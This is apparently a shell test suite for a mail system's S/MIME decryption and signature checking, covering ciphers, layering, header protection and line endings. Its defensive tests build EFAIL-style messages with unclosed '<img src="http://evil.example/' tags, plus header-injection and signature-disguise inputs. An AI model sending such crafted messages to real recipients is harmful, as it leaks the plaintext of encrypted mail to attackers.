#!/bin/sh
# what "openssl cms" seals arrives opened, with the right result: every form, every key, every cipher, LF and CRLF
. "${0%/*}/lib.sh"
. "$SRC/t/incoming.sh"
own rita rita@behoerde.example rsa
own petra petra@behoerde.example ec:brainpoolP384r1
person rolf rolf@partner.example rsa
echo 'The quiet words.' >"$T/text"
entity <"$T/text" >"$T/e"
plain() { tr -d '\r' <"$T/got" | sed '1,/^$/d'; }

# check WHAT RESULT ENCRYPTED LAYERS: of $T/m, with LF and with CRLF
check() {
	for ends in LF CRLF; do
		if [ $ends = CRLF ]; then crlf <"$T/m" >"$T/in"; else cp "$T/m" "$T/in"; fi
		incoming rita@behoerde.example <"$T/in"
		is "$1, $ends" "$code $out|$(result) $(value result) $(value encrypted)|$(value layers)" "0 |$2 $2 $3|$4"
		ok "$1, $ends: the record is genuine" genuine
		like "$1, $ends: the words are there" "$(plain)" '^The quiet words\.$'
		if [ $ends = CRLF ]; then
			is "$1: every line has CRLF" "$(grep -vc "$(printf '\r')\$" "$T/got")" 0
		else
			is "$1: no line has CRLF" "$(grep -c "$(printf '\r')" "$T/got")" 0
		fi
	done
}

letter bob@partner.example <"$T/e" | tr -d '\r' >"$T/m"
check "no S/MIME" none no ""
clear bob <"$T/e" | letter bob@partner.example >"$T/m"
check "clear-signed" pass no 'clear-signed:sha256:ecdsa'
clear rolf <"$T/e" | letter rolf@partner.example >"$T/m"
check "clear-signed with RSA" pass no 'clear-signed:sha256:rsa-pkcs1'
clear rolf -keyopt rsa_padding_mode:pss -md sha512 <"$T/e" | letter rolf@partner.example >"$T/m"
check "clear-signed with PSS" pass no 'clear-signed:sha512:rsa-pss'
clear rolf -md sha1 <"$T/e" | letter rolf@partner.example >"$T/m"
check "over SHA-1, which the floor tolerates" neutral no 'clear-signed:sha1:rsa-pkcs1'
is "... and the result says so" "$(value reason)" weak-hash
printf '[house]\nlike = default\nweak_hashes =\n' >"$T/floors"
conf "$T" 'check_path_floor = house' "check_path_floors = $T/floors"
check "over SHA-1, which the floor does not" fail no 'clear-signed:sha1:rsa-pkcs1'
is "... with the same word" "$(value reason)" weak-hash
conf "$T" 'check_path_floor = default' 'check_path_hashes = sha1 sha256'
check "over SHA-1, which is allowed" pass no 'clear-signed:sha1:rsa-pkcs1'
conf "$T" 'check_path_hashes ='
clear rolf -md md5 <"$T/e" | letter rolf@partner.example >"$T/m"
check "over MD5" fail no 'clear-signed:md5:rsa-pkcs1'
is "over MD5: the reason" "$(value reason)" weak-hash
opaque bob <"$T/e" | letter bob@partner.example >"$T/m"
check "opaque" pass no 'opaque-signed:sha256:ecdsa'
for cipher in aes-128-cbc aes-256-cbc aes-128-gcm aes-256-gcm des-ede3-cbc; do
	case $cipher in *gcm) kind=authenveloped ;; *) kind=enveloped ;; esac
	seal rita -- -$cipher <"$T/e" | letter bob@partner.example >"$T/m"
	check "$cipher with RSA v1.5" none yes "$kind:$cipher:rsa-pkcs1"
done
seal rita -- -keyopt rsa_padding_mode:oaep -aes-256-cbc <"$T/e" | letter bob@partner.example >"$T/m"
check "OAEP" none yes "enveloped:aes-256-cbc:rsa-oaep"
seal rita -- -keyopt rsa_padding_mode:oaep -keyopt rsa_oaep_md:sha256 -aes-128-gcm <"$T/e" | letter bob@partner.example >"$T/m"
check "OAEP with SHA-256 and GCM" none yes "authenveloped:aes-128-gcm:rsa-oaep"
seal alice <"$T/e" | letter bob@partner.example >"$T/m"
check "ECDH" none yes "enveloped:aes-256-cbc:ecdh"
seal petra -- -aes-256-gcm -keyopt ecdh_kdf_md:sha256 <"$T/e" | letter bob@partner.example >"$T/m"
check "ECDH, brainpool, GCM" none yes "authenveloped:aes-256-gcm:ecdh"

# layers
clear bob <"$T/e" | seal rita | letter bob@partner.example >"$T/m"
check "signed inside encrypted" pass yes 'enveloped:aes-256-cbc:rsa-pkcs1,clear-signed:sha256:ecdsa'
opaque bob <"$T/e" | seal rita bob | letter bob@partner.example >"$T/m"
check "opaque inside encrypted, to two" pass yes 'enveloped:aes-256-cbc:rsa-pkcs1,opaque-signed:sha256:ecdsa'
seal rita <"$T/e" | opaque bob | letter bob@partner.example >"$T/m"
check "encrypted inside opaque" pass yes 'opaque-signed:sha256:ecdsa,enveloped:aes-256-cbc:rsa-pkcs1'
seal rita <"$T/e" | clear bob | letter bob@partner.example >"$T/m"
check "encrypted inside clear-signed" pass yes 'clear-signed:sha256:ecdsa,enveloped:aes-256-cbc:rsa-pkcs1'
clear bob <"$T/e" | seal rita | opaque bob | seal alice | letter bob@partner.example >"$T/m"
four='enveloped:aes-256-cbc:ecdh,opaque-signed:sha256:ecdsa,enveloped:aes-256-cbc:rsa-pkcs1,clear-signed:sha256:ecdsa'
check "four layers" pass yes "$four"

# layer_limit: at it, and one above
conf "$T" "layer_limit = 4"
incoming <"$T/m"
is "layer_limit at it" "$code $(result)" "0 pass"
conf "$T" "layer_limit = 3"
incoming <"$T/m"
like "layer_limit one above is refused, by name" "$code $out" '^69 5\.[0-9]\.[0-9] .*3 S/MIME layers'
is "and nothing arrives" "$(delivered "$T/internal")" 0
conf "$T" "layer_limit = 8"

# header fields: those of the inner entity take the place, all others stay byte for byte
printf 'T\303\244glich\n' | entity 'Content-Type: text/html; charset=utf-8' 'Content-Transfer-Encoding: 8bit' 'Content-Language: de' \
	'X-Inner: does not come out' | openssl cms -encrypt -binary -aes128 "$T/rita.pem" | tr -d '\r' >"$T/sealed"
{
	printf 'Received: from a\n\tby b (c);\n   Mon, 3 Nov 2025 10:00:00 +0100\nX-ODD:no blank  and trailing  \n'
	letter bob@partner.example 'x-8bit: Gr\374\337e' 'Content-Description: smime.p7m' 'CONTENT-Language: xx'
} </dev/null >"$T/h"
cat "$T/h" "$T/sealed" >"$T/m"
incoming <"$T/m"
is "the inner entity's type, encoding and language" \
	"$(header | grep -i '^content-\|^mime-version' | sort)" "$(printf '%s\n' 'Content-Language: de' 'Content-Transfer-Encoding: 8bit' \
	'Content-Type: text/html; charset=utf-8' 'MIME-Version: 1.0')"
unlike "nothing else of the inner header" "$(cat "$T/got")" 'X-Inner'
sed '/^Content-\|^CONTENT-/d' "$T/h" >"$T/want"
sed '1,/^ *mac=/d; /^MIME-Version: 1\.0$/,$d' "$T/got" >"$T/rest"
ok "all other fields byte for byte, in their order" cmp "$T/rest" "$T/want"
is "8-bit content" "$(content)" "$(printf 'T\303\244glich')"

# other names of the same
sed 's/^Content-Type: .*/Content-Type: application\/octet-stream; name="SMIME.P7M"/; s/^ *name="smime.p7m"//' "$T/sealed" |
	letter bob@partner.example >"$T/m"
incoming <"$T/m"
is "a P7M that says octet-stream is opened" "$(value encrypted) $(content)" "yes $(printf 'T\303\244glich')"
sed 's/application\/pkcs7-mime/application\/x-pkcs7-mime/; s/smime-type=[a-z-]*;//' "$T/sealed" | letter bob@partner.example >"$T/m"
incoming <"$T/m"
is "so is the old name without smime-type" "$(value encrypted)" "yes"
sed 's/^Content-Type: .*/Content-Type: application\/octet-stream; name="report.bin"/; s/smime\.p7m/report.bin/' "$T/sealed" |
	letter bob@partner.example >"$T/m"
incoming <"$T/m"
is "but no other octet-stream" "$(value encrypted) $(result)" "no none"

# header protection
echo body | entity 'Content-Type: text/plain; charset=us-ascii; protected-headers="v1"' 'Subject: the real =?utf-8?q?p=C3=BCrpose?=' |
	clear bob | seal rita | letter bob@partner.example | sed 's/^Subject:.*/Subject: .../' >"$T/m"
incoming <"$T/m"
is "a protected Subject takes the place" "$(field Subject)" "the real =?UTF-8?Q?p=C3=BCrpose?="
echo body | entity 'Content-Type: text/plain; hp="cipher"' 'Subject: rfc 9788' 'From: eve@evil.example' |
	clear bob | seal rita | letter bob@partner.example | sed 's/^Subject:.*/Subject: [...]/' >"$T/m"
incoming <"$T/m"
is "also with hp=; From stays" "$(field Subject)|$(field From)" "rfc 9788|bob@partner.example"
echo body | entity 'Content-Type: text/plain; hp="clear"' 'Subject: report' | clear bob >"$T/sealed2"
letter bob@partner.example <"$T/sealed2" | sed '0,/^Subject: report/s//SUBJECT:  =?us-ascii?q?report?= /' >"$T/m"
incoming <"$T/m"
like "one that says the same leaves the field alone" "$(cat "$T/got")" '^SUBJECT:  =\?us-ascii\?q\?report\?= $'
letter bob@partner.example <"$T/sealed2" | sed '0,/^Subject:.*/s//Subject: [...]/' >"$T/m"
incoming <"$T/m"
is "a protected Subject behind a clear signature; the signature stays" "$(field Subject)|$(value layers)|$(content)" \
	"report|clear-signed:sha256:ecdsa|$(content "$T/m")"
wrapped() { # PARAMETERS SUBJECT: a whole message as the content of the one with this Subject
	printf 'From: eve@evil.example\nSubject: the wrapped one\n\nbody\n' | entity "Content-Type: message/rfc822$1" | clear bob | seal rita |
		letter bob@partner.example | sed "s/^Subject:.*/Subject: $2/" >"$T/m"
	incoming <"$T/m"
}
wrapped '; forwarded=no' 'Re: outside'
is "that of a whole message that is no forwarded one; From stays" "$(field Subject)|$(field From)" "the wrapped one|bob@partner.example"
wrapped '' '[...]'
is "or where the Subject outside says nothing" "$(field Subject)" "the wrapped one"
wrapped '' 'Fwd: outside'
is "but not that of a forwarded one" "$(field Subject)" "Fwd: outside"
wrapped '; forwarded=yes' '...'
is "which may say so" "$(field Subject)" "..."
echo body | entity 'Subject: not protected' | seal rita | letter bob@partner.example >"$T/m"
incoming <"$T/m"
is "an inner Subject without it does not" "$(field Subject)" "report"

# EFAIL: a closed part beside others
for kind in enveloped clear; do
	{
		printf 'From: bob@partner.example\nTo: rita@behoerde.example\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=b\n\n'
		printf -- '--b\nContent-Type: text/html\n\n<img src="http://evil.example/\n--b\n'
		if [ $kind = clear ]; then clear bob <"$T/e"; else cat "$T/sealed"; fi
		printf '\n--b\nContent-Type: text/html\n\n">\n--b--\n'
	} >"$T/m"
	incoming <"$T/m"
	is "$kind beside other parts: neither opened nor judged" "$code $(result) $(value encrypted) $(value layers)" "0 none no nested"
	content "$T/m" >"$T/want"
	content >"$T/rest"
	ok "$kind beside other parts: stays byte for byte" cmp "$T/rest" "$T/want"
	is "and no notice" "$(notices)" ""
done

# ---- what stands around a signed part is anybody's: no reader may take it for the signer's
beside() { # WHAT SED-SCRIPT: somebody has changed the message around bob's part
	{ clear bob <"$T/e"; printf '\n<img src="http://evil.example/">\n'; } | sed "$2" | letter bob@partner.example >"$T/m"
	incoming rita@behoerde.example <"$T/m"
	is "$1 is never good" "$code $(result) $(value reason)" "0 fail malformed"
}
beside "a signature that is shown as text" 's,^Content-Type: application/pkcs7-signature.*,Content-Type: text/html,; /^Content-Disp/d'
beside "a signature that is shown as a file" 's/filename="smime.p7s"/filename="invoice.html"/'
beside "a boundary that not all programs read" "s/boundary=\"\(.*\)\"/boundary*=us-ascii''\\1/"

# ---- an outer header that some programs end earlier: what we open must not become the rest of somebody's text
echo words | entity | opaque bob >"$T/opaque"
opaque bob <"$T/e" | seal rita >"$T/both"
for body in opaque both; do
	printf 'From: bob@partner.example\nX-A: b\rContent-Type: text/html\r\r<img src="http://evil.example/\n \t\nX-B: c\000d\nX-C: e\n' |
		cat - "$T/$body" >"$T/m"
	incoming rita@behoerde.example <"$T/m"
	is "$body under CR, NUL and a line of blanks" "$code $(result)" "0 pass"
	ok "... the record is genuine" genuine
	is "... which are gone" "$(tr -d '\000\r' <"$T/got" | cmp - "$T/got" && sed -n '/^X-A/,/^X-C/p' "$T/got")" \
		"$(printf 'X-A: b Content-Type: text/html  <img src="http://evil.example/\nX-B: c d\nX-C: e')"
done

done_testing
